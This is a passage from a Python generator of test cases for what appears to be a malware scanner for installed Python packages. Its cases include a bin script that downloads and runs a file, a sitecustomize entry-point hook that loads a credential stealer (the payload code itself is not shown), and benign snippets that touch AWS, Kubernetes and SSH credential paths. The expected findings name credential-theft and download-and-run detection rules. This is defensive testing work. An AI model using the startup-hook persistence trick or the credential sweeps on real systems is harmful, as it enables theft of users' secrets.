    ("corpus-tool-1.0.dist-info/METADATA", tool_meta),
    ("corpus_tool/__init__.py", ""),
    ("../../../bin/corpus-update", script),
]
cases["deep-record-script"] = (
    "A console script that a distribution's RECORD lists outside site-packages (../../../bin/corpus-update) and "
    "that downloads and runs a file. --deep judges every file a RECORD lists, the bin/ scripts too.",
    [
        f(SP + "/" + rel, text) if not rel.startswith("../") else f("venv/bin/corpus-update", text)
        for rel, text in tool_files
    ]
    + [
        f(SP + "/corpus-tool-1.0.dist-info/RECORD", record_of("corpus-tool-1.0.dist-info", tool_files)),
        e("drop-download-run", "high", "venv/bin/corpus-update", line_of(script, "urlretrieve")),
    ],
    ["--deep"],
)

honest = {
    "boto_like/credentials.py": 'import os\nSHARED_CREDENTIALS_FILE = os.path.expanduser("~/.aws/credentials")\nCONFIG_FILE = os.path.expanduser("~/.aws/config")\nMETADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"\n\ndef load():\n    with open(SHARED_CREDENTIALS_FILE) as f:\n        return f.read()\n',
    "k8s_like/incluster.py": 'SERVICE_TOKEN_FILENAME = "/var/run/secrets/kubernetes.io/serviceaccount/token"\nSERVICE_CERT_FILENAME = "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"\n\ndef load():\n    with open(SERVICE_TOKEN_FILENAME) as f:\n        return "Bearer " + f.read()\n',
    "k8s_like/core_v1_api.py": 'class CoreV1Api:\n    def list_secret_for_all_namespaces(self, **kwargs):\n        return self.api_client.call_api("/api/v1/secrets", "GET", auth_settings=["BearerToken"])\n\n    def create_namespaced_pod(self, namespace, body, **kwargs):\n        return self.api_client.call_api("/api/v1/namespaces/{namespace}/pods", "POST", body=body)\n',
    "k8s_like/v1_pod_spec.py": 'class V1PodSpec:\n    attribute_map = {"host_pid": "hostPID", "host_network": "hostNetwork", "privileged": "privileged"}\n',
    "coverage_like/execfile.py": 'def run(filename, main_mod):\n    with open(filename, "rb") as f:\n        source = f.read()\n    code = compile(source, filename, "exec")\n    exec(code, main_mod.__dict__)\n',
    "requests_like/api.py": 'import base64\nfrom .sessions import Session\n\ndef post(url, data=None, json=None, **kwargs):\n    return Session().request("post", url, data=data, json=json, **kwargs)\n\ndef basic_auth(user, pw):\n    return "Basic " + base64.b64encode(f"{user}:{pw}".encode()).decode()\n',
    "paramiko_like/client.py": 'import os, socket\n\ndef _key_candidates():\n    for name in ("id_rsa", "id_ecdsa", "id_ed25519"):\n        yield os.path.expanduser(os.path.join("~", ".ssh", name))\n\ndef connect(host):\n    return socket.create_connection((host, 22))\n',
    "crontab_like/crontab.py": 'import subprocess as sp\nCRON_COMMAND = "/usr/bin/crontab"\nSPECIALS = {"reboot": "@reboot", "hourly": "0 * * * *"}\n\ndef write(text):\n    proc = sp.Popen([CRON_COMMAND, "-"], stdin=sp.PIPE)\n    proc.communicate(text.encode())\n',
    "conda_like/initialize.py": 'def init_sh_user(target_path, conda_prefix):\n    with open(target_path) as fh:\n        rc = fh.read()\n    rc += \'\\n# >>> conda initialize >>>\\neval "$(%s shell.bash hook)"\\n\' % conda_prefix\n    with open(target_path, "w") as fh:\n        fh.write(rc)\nRC = "~/.bashrc"\n',
    "discord_like/webhook.py": 'import requests\nBASE = "https://discord.com/api/webhooks/{webhook_id}/{webhook_token}"\n\ndef send(webhook_id, token, content):\n    return requests.post(BASE.format(webhook_id=webhook_id, webhook_token=token), json={"content": content})\n',
    "dotenv_like/main.py": 'import os\n\ndef find_dotenv(filename=".env"):\n    path = os.getcwd()\n    while True:\n        candidate = os.path.join(path, filename)\n        if os.path.isfile(candidate):\n            return candidate\n        parent = os.path.dirname(path)\n        if parent == path:\n            return ""\n        path = parent\n',
    "icons_like/data.py": "ICON_PNG = '%s'\n" % b64(bytes(range(256)) * 12),
    "uploader_like/upload.py": 'import requests, zipfile\n\ndef upload(dist, url):\n    with zipfile.ZipFile(dist) as z:\n        meta = z.read("METADATA")\n    return requests.post(url, data=meta, files={"content": open(dist, "rb")})\n',
}
cases["benign-same-apis"] = (
    "Honest library code that uses the same APIs as the payloads (boto-style credential files and IMDS, the kubernetes "
    "client's token and secrets calls, coverage's exec, requests, paramiko's keys, python-crontab, conda init, a "
    "Discord webhook client, dotenv lookup, an embedded icon, an uploader), scanned with --deep: nothing is reported.",
    [dist("honest", "1.0")] + [f(SP + "/" + path, text) for path, text in honest.items()],
    ["--deep"],
)

# what sitecustomize-entrypoints' sitecustomize does: load every `[sitecustomize]` entry point
loader = (
    "from importlib.metadata import entry_points\n\n"
    "for ep in entry_points(group=\"sitecustomize\"):\n"
    "    ep.load()()\n"
)
cases["start-entry-point-group"] = (
    "A hook of a hook: a `[sitecustomize]` entry point whose module is the payload, loaded at every start by a "
    "sitecustomize that loads the group; a second distribution's entry point is dormant in an environment without one.",
    [
        dist("sitecustomize_entrypoints", "1.1"),
        f(SP + "/sitecustomize.py", loader),
        dist("otel_boot", "0.3"),
        f(SP + "/otel_boot-0.3.dist-info/entry_points.txt", "[sitecustomize]\nboot = _otel_boot:init\n"),
        f(SP + "/_otel_boot.py", stealer),
        f("other/pyvenv.cfg", "home = /usr/bin\nversion = 3.12.4\n"),
        f("other/lib/python3.12/site-packages/quiet-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: quiet\nVersion: 1.0\n\n"),
        f("other/lib/python3.12/site-packages/quiet-1.0.dist-info/entry_points.txt", "[sitecustomize]\nq = quiet_boot:init\n"),
        e("EP003", "high", SP + "/otel_boot-0.3.dist-info/entry_points.txt", 2),
        e("cred-sweep-stores", "high", SP + "/_otel_boot.py", 1),
        e("cred-ssh-keys", "high", SP + "/_otel_boot.py", 14),
        e("CUS001", "medium", SP + "/sitecustomize.py"),
        e("EP003", "info", "other/lib/python3.12/site-packages/quiet-1.0.dist-info/entry_points.txt", 2),
    ],
)

for name, (desc, parts, *rest) in sorted(cases.items()):
    args = rest[0] if rest else []
    os.makedirs(os.path.join(HERE, "cases", name), exist_ok=True)
    with open(os.path.join(HERE, "cases", name, "case.toml"), "w", newline="") as out:
        out.write("# %s\n# Defanged: every payload is harmless text or sits behind a never-set guard.\n" % desc)
        out.write("description = %s\n" % q(desc))
        if args:
            out.write("args = [%s]\n" % ", ".join('"%s"' % a for a in args))
        out.write("\n")
        out.write("\n".join([CFG] + parts))
print("wrote %d cases" % len(cases))
